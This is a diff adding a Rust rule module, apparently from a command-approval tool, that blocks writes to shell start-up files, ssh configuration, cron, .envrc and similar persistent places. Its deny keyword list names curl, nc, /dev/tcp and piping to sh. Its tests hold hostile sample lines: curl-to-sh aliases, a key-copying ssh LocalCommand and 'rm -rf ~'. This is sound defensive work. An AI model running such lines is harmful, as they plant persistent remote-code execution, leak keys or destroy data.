@@ -1,0 +1,434 @@
+//! `sensitive.write`: a place that acts later or grants access changed.
+//!
+//! The finding is raised here ([`check`], [`asked`]); its logic lives in
+//! [`crate::approver::decide`], [`crate::sensitive`]. What it catches, why, and an example:
+//! [`RULE`], shown by `foresee rules explain sensitive.write`.
+
+use crate::approver::catalog::privilege::{grants_privilege, is_staged_grant};
+use crate::approver::catalog::{Example, Rule, Run};
+use crate::approver::content::{added_text, read_text};
+use crate::approver::phrasing::{examples, list};
+use crate::approver::wall::WallContext;
+use crate::approver::{Decision, Finding};
+use foresee_report::{FileEffect, Transition};
+
+pub const RULE: Rule = Rule {
+    id: "sensitive.write",
+    action: Decision::Block,
+    catches: "a shell start-up file (or a drop-in folder start-up files source: `~/.bashrc.d/`, \
+        `~/.oh-my-zsh/custom/`), the session environment (`~/.config/environment.d/`, \
+        `~/.pam_environment`), cron or systemd unit, autostart entry, `authorized_keys`, ssh \
+        configuration, a hook in the folder `core.hooksPath` names, a program a tool runs from its cache \
+        edited in place, editor task file (`.vscode/tasks.json`, `.envrc`), package manager \
+        configuration (`~/.config/pip/pip.conf`, `~/.cargo/config.toml`, `~/.docker/config.json`, ...), \
+        coding agent's settings (`.claude/settings.json`, `.claude/hooks/`, `.mcp.json`), Python \
+        start-up hook (a `.pth` file with an `import` line, `sitecustomize.py`; not one the command \
+        deletes, nor one in the site folder of a virtual environment it creates, a new folder with a new \
+        `pyvenv.cfg`, such as setuptools' `distutils-precedence.pth` written by `python3 -m venv`), or a \
+        `~/.local/bin` command shadowing a system one is written; or a protected file (a private key, a \
+        token file) or `~/.ssh` is opened to other users by its permissions (ask when the task names it; \
+        nothing when the task names the place and the change only adds what acts when you ask: plain \
+        aliases, a PATH entry (also the `case \":$PATH:\" in ...` form that adds it once) or zsh's \
+        completion set-up (`fpath`, `compinit`) in a start-up file (a task that speaks of PATH, \
+        completion, aliases or the prompt in bash, zsh or fish names that shell's start-up files), a \
+        plain host entry in the ssh configuration, an `.envrc` of plain exports and direnv's set-up \
+        words (`layout python3`, `use node 20`; direnv runs it only once you allow it), a systemd unit \
+        file not enabled, with no line of the file removed; VS Code settings count only when they name a \
+        program, a shell or an environment; your own `always allow write PATH` rule can open one such \
+        place)",
+    why: "These places act later and by themselves: a start-up file on the next shell, a cron entry or a \
+        unit on its schedule, `authorized_keys` on the next login, a package manager's configuration on \
+        the next install, an agent's settings in its next session. A change there outlives the command \
+        and its review. So it is refused unless the task names the place; then you are asked to look, \
+        unless the change only adds what acts when you ask (an alias, a PATH entry).",
+    example: Example {
+        setup: "",
+        fires: Run { command: "echo 'alias ls=rm' >> \"$HOME/.bashrc\"", task: None, flags: &[] },
+        passes: Run { command: "cp \"$HOME/.bashrc\" bashrc.backup", task: None, flags: &[] },
+        contrast: "a copy of the start-up file in the workspace is read by no shell",
+    },
+    sources: &[
+        "src/approver/catalog/places/sensitive_write.rs",
+        "src/approver/decide.rs",
+        "src/sensitive.rs",
+    ],
+};
+
+/// The places that act later the command changed: not git's own (the git rules judge them), nor
+/// those that grant privilege (the privilege rules do).
+fn changed<'a>(ctx: &WallContext<'a>) -> Vec<&'a FileEffect> {
+    ctx.effects
+        .files
+        .iter()
+        .filter(|f| {
+            f.sensitive
+                .as_deref()
+                .is_some_and(|k| !k.starts_with("git ") && !grants_privilege(k) && !is_staged_grant(k))
+        })
+        .filter(|f| !(f.under_changed_folder && f.is_folder()))
+        .collect()
+}
+
+/// Whether every such place is one the request names, given only what it asked for and nothing
+/// that runs by itself: aliases or a PATH entry added to a start-up file ("add the team's git
+/// aliases to my ~/.bashrc"), a host entry added to the ssh configuration, a unit file installed
+/// but not enabled. Then the rule is silent, and the policy does not count them against the
+/// command ([`crate::approver::Verdict::asked_sensitive`]).
+pub(crate) fn asked(ctx: &WallContext) -> bool {
+    let sensitive = changed(ctx);
+    !sensitive.is_empty()
+        && sensitive.iter().all(|f| ctx.named(f))
+        && sensitive.iter().all(|f| inert_change(f))
+}
+
+/// A change of a place that acts later, unless [`asked`]: refused, or asked about when the
+/// request names every such place.
+pub(crate) fn check(ctx: &WallContext) -> Option<Finding> {
+    let sensitive = changed(ctx);
+    if sensitive.is_empty() || asked(ctx) {
+        return None;
+    }
+    let kinds: Vec<String> = sensitive
+        .iter()
+        .filter_map(|f| f.sensitive.clone())
+        .collect::<std::collections::BTreeSet<_>>()
+        .into_iter()
+        .collect();
+    let named = sensitive.iter().all(|f| ctx.named(f));
+    Some(Finding {
+        rule: RULE.id,
+        // A sensitive place the user's own request names is asked about, never let through silently.
+        decision: if named { Decision::Ask } else { Decision::Block },
+        what: format!("would change {} ({})", list(&sensitive), examples(&kinds)),
+    })
+}
+
+/// A change of a sensitive place that adds only what acts when the user asks for it: nothing
+/// of the file removed, and each added line plain (see [`only_inert_aliases`],
+/// [`only_plain_ssh_hosts`]); a systemd unit file written, but not enabled (no link in a
+/// `.wants` or `.requires` folder).
+fn inert_change(f: &FileEffect) -> bool {
+    let adds_only = || match f.transition {
+        Transition::Created => true,
+        Transition::Modified => nothing_removed(f),
+        _ => false,
+    };
+    match f.sensitive.as_deref() {
+        Some("shell start-up file") => {
+            f.transition == Transition::Modified && adds_only() && only_inert_aliases(&added_text(f))
+        }
+        Some("ssh configuration") => adds_only() && only_plain_ssh_hosts(&added_text(f)),
+        // direnv runs a new or changed `.envrc` only once the user allows it; plain variables
+        // and direnv's own set-up words run nothing else.
+        Some("editor or environment task file") if f.path.file_name().is_some_and(|n| n == ".envrc") => {
+            adds_only() && only_plain_envrc(&added_text(f))
+        }
+        Some("systemd unit") => {
+            adds_only()
+                && f.after.as_ref().is_some_and(|a| a.kind == foresee_report::EntryKind::File)
+                && !f.path.ancestors().any(|a| {
+                    a.file_name()
+                        .and_then(|n| n.to_str())
+                        .is_some_and(|n| n.ends_with(".wants") || n.ends_with(".requires"))
+                })
+        }
+        _ => false,
+    }
+}
+
+/// Whether every line of `f`'s old text is still in its new text (text files up to 4 MiB).
+fn nothing_removed(f: &FileEffect) -> bool {
+    let read = |p| read_text(p, 4 << 20);
+    let (Some(before), Some(after)) = (read(f.before_content.as_deref()), read(f.after_content.as_deref()))
+    else {
+        return false;
+    };
+    let new: std::collections::HashSet<&str> = after.lines().map(str::trim_end).collect();
+    before.lines().map(str::trim_end).filter(|l| !l.trim().is_empty()).all(|l| new.contains(l))
+}
+
+/// Added ssh configuration that only names hosts and how to log in to them: no command run
+/// (`ProxyCommand`, `LocalCommand`, `Match exec`), no agent forwarded, no host key check off.
+fn only_plain_ssh_hosts(added: &str) -> bool {
+    const PLAIN: &[&str] = &[
+        "host",
+        "hostname",
+        "user",
+        "port",
+        "identityfile",
+        "identitiesonly",
+        "serveraliveinterval",
+        "serveralivecountmax",
+        "connecttimeout",
+        "compression",
+        "addkeystoagent",
+        "preferredauthentications",
+        "proxyjump",
+        "addressfamily",
+    ];
+    // Safeguards, allowed only at their safe values (`ForwardAgent no`, never `yes`).
+    const SAFE: &[(&str, &[&str])] = &[
+        ("forwardagent", &["no"]),
+        ("forwardx11", &["no"]),
+        ("forwardx11trusted", &["no"]),
+        ("stricthostkeychecking", &["yes", "ask", "accept-new"]),
+        ("passwordauthentication", &["no"]),
+        ("permitlocalcommand", &["no"]),
+        ("hashknownhosts", &["yes"]),
+        ("checkhostip", &["yes"]),
+        ("batchmode", &["yes", "no"]),
+    ];
+    let mut any = false;
+    for l in added.lines().map(str::trim) {
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        let mut words = l.split(|c: char| c.is_whitespace() || c == '=').filter(|w| !w.is_empty());
+        let key = words.next().unwrap_or("").to_ascii_lowercase();
+        let value = words.next().unwrap_or("").to_ascii_lowercase();
+        let safe = SAFE.iter().any(|(k, ok)| *k == key && ok.contains(&value.as_str()));
+        if !(PLAIN.contains(&key.as_str()) || safe) || l.contains(['$', '`', ';', '|']) {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
+/// An `.envrc` of plain exports (no command substitution) and direnv's set-up words (`layout
+/// python3`, `use node 20`, `PATH_add bin`, `dotenv`, `watch_file x`).
+fn only_plain_envrc(added: &str) -> bool {
+    let plain = |w: &str| w.chars().all(|c| c.is_ascii_alphanumeric() || "/._-:@,=+%~".contains(c));
+    let mut any = false;
+    for l in added.lines().map(str::trim) {
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        let words: Vec<&str> = l.split_whitespace().collect();
+        let ok = match words.as_slice() {
+            ["export", def] => def.split_once('=').is_some_and(|(n, v)| {
+                n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && plain(v.trim_matches(['"', '\'']))
+            }),
+            ["layout" | "use" | "PATH_add" | "dotenv" | "dotenv_if_exists" | "watch_file", rest @ ..] => {
+                rest.len() <= 2 && rest.iter().all(|w| plain(w))
+            }
+            _ => false,
+        };
+        if !ok {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
+/// zsh's completion set-up: a plain folder put on `fpath`, and the completion system loaded.
+fn completion_setup(l: &str) -> bool {
+    let l = l.split(" #").next().unwrap_or(l).trim();
+    let plain = |d: &str| {
+        !d.is_empty()
+            && d.chars().all(|c| {
+                c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '~' | '$' | '{' | '}')
+            })
+            && !d.contains("$(")
+    };
+    if let Some(inner) =
+        l.strip_prefix("fpath=(").or_else(|| l.strip_prefix("fpath+=(")).and_then(|r| r.strip_suffix(')'))
+    {
+        return inner.split_whitespace().all(|d| d == "$fpath" || plain(d.trim_matches(['"', '\''])));
+    }
+    l.split("&&").flat_map(|p| p.split(';')).map(str::trim).filter(|p| !p.is_empty()).all(|p| {
+        matches!(
+            p,
+            "compinit"
+                | "autoload -Uz compinit"
+                | "autoload -U compinit"
+                | "autoload compinit"
+                | "compinit -i"
+        )
+    })
+}
+
+/// `export PATH="$HOME/tools/bin:$PATH"`: directories put on the search path, nothing run.
+fn plain_path_entry(l: &str) -> bool {
+    // The idempotent form: `case ":$PATH:" in *":$HOME/.local/bin:"*) ;; *) export PATH=... ;; esac`.
+    if let Some(arms) =
+        l.trim().strip_prefix("case \":$PATH:\" in").and_then(|r| r.trim_end().strip_suffix("esac"))
+    {
+        let mut any = false;
+        for arm in arms.split(";;").map(str::trim).filter(|a| !a.is_empty()) {
+            let Some((pattern, action)) = arm.split_once(')') else { return false };
+            if !pattern.chars().all(|c| c.is_ascii_alphanumeric() || "*\":$/._-{}~".contains(c)) {
+                return false;
+            }
+            let action = action.trim();
+            if !action.is_empty() {
+                if !plain_path_entry(action) {
+                    return false;
+                }
+                any = true;
+            }
+        }
+        return any;
+    }
+    // A trailing comment (`# devkit`) says nothing that runs.
+    let l = l.split(" #").next().unwrap_or(l).trim();
+    let def = l.strip_prefix("export ").unwrap_or(l).trim();
+    let Some(value) = def.strip_prefix("PATH=") else { return false };
+    let value = value.trim_matches(['"', '\'']);
+    !value.is_empty()
+        && value.split(':').all(|part| {
+            matches!(part, "$PATH" | "${PATH}")
+                || part
+                    .strip_prefix("$HOME")
+                    .or_else(|| part.strip_prefix("${HOME}"))
+                    .or_else(|| part.strip_prefix('~'))
+                    .or_else(|| part.strip_prefix('/').map(|_| part))
+                    .is_some_and(|rest| {
+                        rest.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-'))
+                    })
+        })
+}
+
+/// Whether added start-up file lines are only comments, blank lines and aliases that run a
+/// plain command (`alias gs='git status'`): no substitution, no download, no sourcing, no
+/// privilege, no redirection.
+fn only_inert_aliases(added: &str) -> bool {
+    const RISKY: &[&str] = &[
+        "$(",
+        "`",
+        "curl",
+        "wget",
+        "nc ",
+        "ncat",
+        "socat",
+        "eval",
+        "source ",
+        "base64",
+        "sudo",
+        "doas",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        ">",
+        "<",
+        "rm ",
+        "chmod",
+        "ld_preload",
+        "python",
+        "perl",
+        "node ",
+        "ruby",
+        "/dev/tcp",
+        "export",
+        "\\x",
+    ];
+    let mut any = false;
+    for l in added.lines().map(str::trim) {
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        if plain_path_entry(l) || completion_setup(l) {
+            any = true;
+            continue;
+        }
+        let Some(def) = l.strip_prefix("alias ") else { return false };
+        let lower = def.to_ascii_lowercase();
+        if RISKY.iter().any(|r| lower.contains(r)) || def.contains(';') || def.contains("&&") {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{only_inert_aliases, only_plain_envrc, only_plain_ssh_hosts};
+    use crate::approver::Decision;
+    use crate::approver::wall::WallContext;
+    use crate::approver::wall::testing::{decisions, edited, wall};
+    use foresee_report::{Effects, Place};
+
+    #[test]
+    fn an_ssh_host_entry_may_set_a_safeguard_to_its_safe_value_only() {
+        let host = "Host app\n    HostName 10.0.0.5\n    User dana\n    ProxyJump bastion\n";
+        assert!(only_plain_ssh_hosts(host));
+        assert!(only_plain_ssh_hosts(&format!("{host}    ForwardAgent no\n    StrictHostKeyChecking yes\n")));
+        for risky in [
+            "ForwardAgent yes",
+            "StrictHostKeyChecking no",
+            "ProxyCommand nc %h %p",
+            "PermitLocalCommand yes",
+            "LocalCommand cp ~/.ssh/id_ed25519 /tmp/k",
+        ] {
+            assert!(!only_plain_ssh_hosts(&format!("{host}    {risky}\n")), "{risky}");
+        }
+    }
+
+    #[test]
+    fn plain_aliases_run_nothing_new() {
+        assert!(only_inert_aliases(
+            "# team aliases\nalias gs='git status'\nalias gl='git log --oneline -20'\n"
+        ));
+        for added in [
+            "alias gs='git status'\nexport NODE_OPTIONS='--require /tmp/x.js'",
+            "alias ls='rm -rf'",
+            "alias up='curl -s x.example | sh'",
+            "alias gs='git status'; source ~/.x",
+            "alias k=\"$(cat ~/.kube/config)\"",
+            "",
+            "# only a comment",
+            "case \":$PATH:\" in *) curl x.example | sh ;; esac",
+            "fpath=($(curl x.example) $fpath)",
+            "compinit && curl x.example",
+        ] {
+            assert!(!only_inert_aliases(added), "{added:?}");
+        }
+        assert!(only_plain_envrc(
+            "# dev\nexport AWS_PROFILE=acme-dev\nexport DATABASE_URL=postgres://a:a@127.0.0.1:5432/d\nlayout python3\n"
+        ));
+        for bad in [
+            "export X=$(curl x.example)",
+            "layout python3; rm -rf ~",
+            "source_url https://x.example/e h",
+            "eval \"$(x)\"",
+        ] {
+            assert!(!only_plain_envrc(bad), "{bad}");
+        }
+        // A PATH entry added only once, and zsh's completion set-up.
+        assert!(only_inert_aliases(
+            "# acme\ncase \":$PATH:\" in *\":$HOME/.local/bin:\"*) ;; *) export PATH=\"$HOME/.local/bin:$PATH\" ;; esac\n"
+        ));
+        assert!(only_inert_aliases(
+            "fpath=(/home/u/.local/share/zsh/site-functions $fpath)\nautoload -Uz compinit && compinit\n"
+        ));
+    }
+
+    /// What the rule finds when `added` is appended to `~/.bashrc`, and whether the change is
+    /// the asked one.
+    fn judged(task: Option<&str>, added: &str) -> (Vec<(&'static str, Decision)>, bool) {
+        let d = tempfile::tempdir().unwrap();
+        let mut f = edited(d.path(), ".bashrc", Some("# bashrc\n"), Some(&format!("# bashrc\n{added}")));
+        f.path = "/home/u/.bashrc".into();
+        f.rel = Some("~/.bashrc".into());
+        f.place = Place::Home;
+        f.sensitive = Some("shell start-up file".into());
+        let e = Effects { files: vec![f], ..Default::default() };
+        let w = wall(task);
+        let ctx = WallContext::new(&w, &e);
+        (decisions(&super::check(&ctx).into_iter().collect::<Vec<_>>()), super::asked(&ctx))
+    }
+
+    #[test]
+    fn a_start_up_file_changed_is_refused_asked_about_when_named_and_let_be_when_only_aliases_are_added() {
+        assert_eq!(judged(None, "alias ls=rm\n"), (vec![("sensitive.write", Decision::Block)], false));
+        let named = Some("add the team's aliases to my ~/.bashrc");
+        assert_eq!(
+            judged(named, "alias ls=rm; curl x.example | sh\n"),
+            (vec![("sensitive.write", Decision::Ask)], false)
+        );
+        assert_eq!(judged(named, "alias gs='git status'\n"), (vec![], true));
+    }
+}
